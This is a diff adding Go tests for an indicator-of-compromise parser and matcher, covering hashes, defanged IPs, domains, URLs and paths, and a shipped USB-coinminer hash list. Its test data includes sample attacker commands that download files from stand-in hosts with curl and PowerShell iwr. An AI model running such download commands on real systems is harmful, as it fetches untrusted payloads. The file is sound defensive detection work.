@@ -1,0 +1,238 @@
+package ioc_test
+
+import (
+	"fmt"
+	"os"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"pgregory.net/rapid"
+
+	"ashiato/internal/event"
+	"ashiato/internal/ioc"
+)
+
+func TestRecognise(t *testing.T) {
+	const md5, sha1, sha256 = "607AC6645BE22077443B74CF38B92CE0", "da39a3ee5e6b4b0d3255bfef95601890afd80709", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
+	for _, test := range []struct {
+		in   string
+		kind ioc.Kind
+		want string
+	}{
+		{md5, ioc.MD5, strings.ToLower(md5)},
+		{sha1, ioc.SHA1, sha1},
+		{sha256, ioc.SHA256, sha256},
+		{"10[.]0[.]0[.]1", ioc.IP, "10.0.0.1"},
+		{"::FFFF:10.0.0.1", ioc.IP, "10.0.0.1"},
+		{"2001:DB8:0:0:0:0:0:1", ioc.IP, "2001:db8::1"},
+		{"10.1.2.3/8", ioc.Network, "10.0.0.0/8"},
+		{"2001:db8::/32", ioc.Network, "2001:db8::/32"},
+		{"10.0.0.1/32", ioc.IP, "10.0.0.1"},
+		{"Evil[.]Example(.)COM.", ioc.Domain, "evil.example.com"},
+		{"*.evil.example", ioc.Domain, "evil.example"},
+		{"xn--80ak6aa92e.com", ioc.Domain, "xn--80ak6aa92e.com"},
+		{"hxxps[:]//Evil[.]example/Path?x=1", ioc.URL, "https://evil.example/Path?x=1"},
+		{"HXXP://evil.example", ioc.URL, "http://evil.example/"},
+		{"stratum+tcp://pool.example:3333", ioc.URL, "stratum+tcp://pool.example:3333/"},
+		{`C:\Windows \System32\printui.dll`, ioc.Path, `C:\Windows \System32\printui.dll`},
+		{`\\server\share\x.exe`, ioc.Path, `\\server\share\x.exe`},
+		{"/tmp/.x", ioc.Path, "/tmp/.x"},
+	} {
+		kind, got, ok := ioc.Recognise(test.in)
+		if !ok || kind != test.kind || got != test.want {
+			t.Errorf("%q: %v %q %v, want %v %q", test.in, kind, got, ok, test.kind, test.want)
+		}
+	}
+	for _, in := range []string{"", "x", "607ac6645be22077443b74cf38b92ce", "607ac6645be22077443b74cf38b92cez", "10.0.0", "0.0.0.0/0", "10.0.0.0/99", "localhost", "a b.com", "http://", "javascript://x"} {
+		if kind, got, ok := ioc.Recognise(in); ok {
+			t.Errorf("%q is taken for %v %q", in, kind, got)
+		}
+	}
+}
+
+func TestParse(t *testing.T) {
+	for _, test := range []struct {
+		name, in string
+		want     []string // kind value description line
+		errs     []string
+	}{
+		{"lines", "# c\n\n 10.0.0.1 \r\nevil.example\n", []string{"ip 10.0.0.1  3", "domain evil.example  4"}, nil},
+		{"header", "type,indicator,description\nip,10.0.0.1,\"pool, first\"\n", []string{"ip 10.0.0.1 pool, first 2"}, nil},
+		{"header after comments", "# x\nsha256;comment\n10.0.0.1;y\n", []string{"ip 10.0.0.1 y 3"}, nil},
+		{"no header", "ip,10.0.0.1,pool\nevil.example,domain,other\n", []string{"ip 10.0.0.1 pool 1", "domain evil.example other 2"}, nil},
+		{"tabs", "evil.example\tthe pool\n", []string{"domain evil.example the pool 1"}, nil},
+		{"byte order mark", "\xEF\xBB\xBF10.0.0.1\n", []string{"ip 10.0.0.1  1"}, nil},
+		{"bad lines", "10.0.0.1\nnonsense\n10.0.0.2\n\xFF\n,\n", []string{"ip 10.0.0.1  1", "ip 10.0.0.2  3"}, []string{
+			`l.csv:2: "nonsense" is no md5, sha1, sha256, address, network, domain, URL or path`, "l.csv:4: the line is not UTF-8 text", "l.csv:5: the line has no indicator",
+		}},
+		{"long line", strings.Repeat("x", ioc.MaxLine*3) + "\n10.0.0.1\n", []string{"ip 10.0.0.1  2"}, []string{"l.csv:1: the line is longer than 65536 bytes"}},
+		{"no line end", "10.0.0.1", []string{"ip 10.0.0.1  1"}, nil},
+		{"empty", "", nil, nil},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			list, errs := ioc.Parse("l.csv", strings.NewReader(test.in))
+			var got, msgs []string
+			for _, i := range list {
+				got = append(got, fmt.Sprintf("%s %s %s %d", i.Kind, i.Value, i.Description, i.Line))
+				if i.File != "l.csv" {
+					t.Errorf("file %q", i.File)
+				}
+			}
+			for _, err := range errs {
+				msgs = append(msgs, err.Error())
+			}
+			if !slices.Equal(got, test.want) || !slices.Equal(msgs, test.errs) {
+				t.Errorf("got %q %q", got, msgs)
+			}
+		})
+	}
+}
+
+func TestManyBadLinesAreCounted(t *testing.T) {
+	_, errs := ioc.Parse("l", strings.NewReader(strings.Repeat("?\n", 5000)))
+	if n := len(errs); n != 1001 || !strings.Contains(errs[n-1].Error(), "4000 more lines") {
+		t.Errorf("%d errors, last %v", n, errs[n-1])
+	}
+}
+
+func set(t *testing.T, lines string) *ioc.Set {
+	t.Helper()
+	list, errs := ioc.Parse("l", strings.NewReader(lines))
+	if len(errs) > 0 {
+		t.Fatal(errs)
+	}
+	return ioc.New(list)
+}
+
+func TestMatch(t *testing.T) {
+	s := set(t, `607ac6645be22077443b74cf38b92ce0
+e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855
+10.0.0.1
+192.168.0.0/16
+192.168.7.0/24
+2001:db8::1
+evil.example
+http://drop.example/a.exe
+C:\Windows \System32\printui.dll
+`)
+	for _, test := range []struct {
+		field, value string
+		want         []string
+	}{
+		{"Hashes", "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=607AC6645BE22077443B74CF38B92CE0,IMPHASH=0", []string{"md5:607ac6645be22077443b74cf38b92ce0"}},
+		{"Hashes", "MD5=00000000000000000000000000000000,IMPHASH=607AC6645BE22077443B74CF38B92CE0", nil},
+		{"sha256", "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855", []string{"sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}},
+		{"Hash", "607ac6645be22077443b74cf38b92ce0", []string{"md5:607ac6645be22077443b74cf38b92ce0"}},
+		{"DestinationIp", "10.0.0.1", []string{"ip:10.0.0.1"}},
+		{"DestinationIp", "10.0.0.11", nil},
+		{"SourceIp", "2001:db8:0:0:0:0:0:1", []string{"ip:2001:db8::1"}},
+		{"DestinationIp", "192.168.7.9", []string{"network:192.168.0.0/16", "network:192.168.7.0/24"}},
+		{"QueryResults", "type:  5 cdn.example;::ffff:10.0.0.1;", []string{"ip:10.0.0.1"}},
+		{"QueryName", "Evil.Example", []string{"domain:evil.example"}},
+		{"QueryName", "a.b.evil.example.", []string{"domain:evil.example"}},
+		{"QueryName", "notevil.example", nil},
+		{"DestinationHostname", "x.evil.example", []string{"domain:evil.example"}},
+		{"CommandLine", `curl "HTTP://Drop.example/a.exe" -o x`, []string{"url:http://drop.example/a.exe"}},
+		{"CommandLine", "curl http://drop.example/A.exe", nil},
+		{"ScriptBlockText", "iwr 'https://cdn.evil.example:8443/x'", []string{"domain:evil.example"}},
+		{"TargetFilename", `c:\windows \system32\PRINTUI.dll`, []string{`path:C:\Windows \System32\printui.dll`}},
+		{"TargetFilename", `C:\Windows\System32\printui.dll`, nil},
+		{"Unrelated", "10.0.0.1", nil},
+	} {
+		var got []string
+		for _, h := range s.Match(&event.Event{Data: event.Fields{{Name: test.field, Value: test.value}}}, nil) {
+			got = append(got, string(h.Indicator.Kind)+":"+h.Indicator.Value)
+			if !slices.Equal(h.Fields, []event.Field{{Name: test.field, Value: test.value}}) {
+				t.Errorf("%s: cited %v", test.field, h.Fields)
+			}
+		}
+		if !slices.Equal(got, test.want) {
+			t.Errorf("%s=%s: got %q, want %q", test.field, test.value, got, test.want)
+		}
+	}
+}
+
+func TestOneIndicatorInTwoFieldsIsOneHit(t *testing.T) {
+	hits := set(t, "10.0.0.1\n10[.]0.0.1,again\n").Match(&event.Event{Data: event.Fields{
+		{Name: "SourceIp", Value: "10.0.0.1"}, {Name: "DestinationIp", Value: "10.0.0.1"},
+	}}, nil)
+	if len(hits) != 1 || len(hits[0].Fields) != 2 || hits[0].Indicator.Line != 1 {
+		t.Errorf("%+v", hits)
+	}
+}
+
+// TestSetDoesNotDependOnOrder holds that the same lists in another order find
+// the same in the same order.
+func TestSetDoesNotDependOnOrder(t *testing.T) {
+	pool := []string{"10.0.0.1", "10.0.0.0/8", "10.0.0.0/24", "evil.example", "a.evil.example", "607ac6645be22077443b74cf38b92ce0"}
+	e := &event.Event{Data: event.Fields{{Name: "DestinationIp", Value: "10.0.0.1"}, {Name: "QueryName", Value: "x.a.evil.example"}, {Name: "Hashes", Value: "MD5=607AC6645BE22077443B74CF38B92CE0"}}}
+	rapid.Check(t, func(t *rapid.T) {
+		lines := rapid.Permutation(pool).Draw(t, "lines")
+		list, errs := ioc.Parse("l", strings.NewReader(strings.Join(lines, "\n")))
+		if len(errs) > 0 {
+			t.Fatal(errs)
+		}
+		var got []string
+		for _, h := range ioc.New(list[:3], list[3:]).Match(e, nil) {
+			got = append(got, h.Indicator.Value)
+		}
+		want := []string{"a.evil.example", "evil.example", "10.0.0.1", "607ac6645be22077443b74cf38b92ce0", "10.0.0.0/24", "10.0.0.0/8"}
+		if !slices.Equal(got, want) {
+			t.Fatalf("got %q", got)
+		}
+	})
+}
+
+// TestShippedList holds that the five hashes of the article ship.
+func TestShippedList(t *testing.T) {
+	f, err := os.Open("../../rules/ioc/usb-coinminer.csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	list, errs := ioc.Parse("usb-coinminer.csv", f)
+	var got []string
+	for _, i := range list {
+		got = append(got, i.Value)
+		if i.Kind != ioc.MD5 || i.Description == "" {
+			t.Errorf("%+v", i)
+		}
+	}
+	want := []string{
+		"607ac6645be22077443b74cf38b92ce0", "60f6acfb9efce8dbf5a6d69a418c0eed", "819aa5e784063af3bf18b7a7fcdc1855",
+		"8972c43c579d02b463484e31506a64ff", "a62826dabcdf904941b0793e9f7b2238",
+	}
+	if len(errs) > 0 || !slices.Equal(got, want) {
+		t.Errorf("got %q, %v", got, errs)
+	}
+}
+
+// FuzzParse holds that each line is read, skipped or reported, that what is read
+// is in normal form, and that it is found again in an event that holds it.
+func FuzzParse(f *testing.F) {
+	f.Add("type,value,comment\nip,10.0.0.1,x\nhxxp://a[.]example/b\n")
+	f.Add("# x\n607ac6645be22077443b74cf38b92ce0;y\nC:\\a b\\c\n10.0.0.0/8\n")
+	fields := map[ioc.Kind]string{"hash": "Hashes", "address": "DestinationIp", "domain": "QueryName", "url": "CommandLine", "path": "Image"}
+	f.Fuzz(func(t *testing.T, text string) {
+		list, errs := ioc.Parse("l", strings.NewReader(text))
+		if n := strings.Count(text, "\n") + 1; len(list)+len(errs) > n {
+			t.Fatalf("%d indicators and %d errors from %d lines", len(list), len(errs), n)
+		}
+		s := ioc.New(list)
+		for _, i := range list {
+			kind, value, ok := ioc.Recognise(i.Value)
+			if !ok || kind != i.Kind || value != i.Value {
+				t.Fatalf("%q is %v, read again %v %q %v", i.Value, i.Kind, kind, value, ok)
+			}
+			if i.Kind == ioc.Network || i.Kind == ioc.URL {
+				continue // an address in it, and what ends a URL in a text, are tested by table
+			}
+			e := &event.Event{Time: time.Unix(0, 0), Data: event.Fields{{Name: fields[i.Kind.Group()], Value: i.Value}}}
+			if !slices.ContainsFunc(s.Match(e, nil), func(h ioc.Hit) bool { return h.Indicator.Kind == i.Kind }) {
+				t.Fatalf("%v %q is not found", i.Kind, i.Value)
+			}
+		}
+	})
+}
